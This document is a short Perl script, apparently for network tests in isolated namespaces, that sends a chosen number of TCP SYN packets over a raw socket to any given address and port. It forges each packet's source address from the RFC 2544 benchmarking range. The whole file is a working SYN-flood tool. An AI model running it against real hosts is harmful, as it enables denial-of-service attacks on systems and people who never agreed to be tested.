# syn-flood.pl ADDRESS PORT COUNT: sends COUNT SYNs, each with another forged source (198.18.0.0/15, RFC 2544: nobody's), and ends.
# For tests in network namespaces of their own.
use strict;
use warnings;
use Socket;

my ($address, $port, $count) = @ARGV;
my $target = inet_aton($address);
# 255 is IPPROTO_RAW: the header of IP is ours; the kernel fills in its checksum.
socket(my $socket, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";

# The checksum of RFC 1071.
sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', $_[0];
    $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16;
    return ~$sum & 0xffff;
}

for my $number (1 .. $count) {
    my $source = pack 'N', 0xc6120000 + int rand 0x20000;
    my @tcp = (1024 + int rand 60000, $port, int rand 2**32, 0, 5 << 4, 2, 65535, 0, 0);
    $tcp[7] = checksum($source . $target . pack('CCn', 0, 6, 20) . pack 'nnNNCCnnn', @tcp);
    my $packet = pack('CCnnnCCna4a4', 0x45, 0, 40, 0, 0, 64, 6, 0, $source, $target) . pack 'nnNNCCnnn', @tcp;
    send($socket, $packet, 0, pack_sockaddr_in(0, $target)) or $!{ENOBUFS} or die "send: $!\n";
}
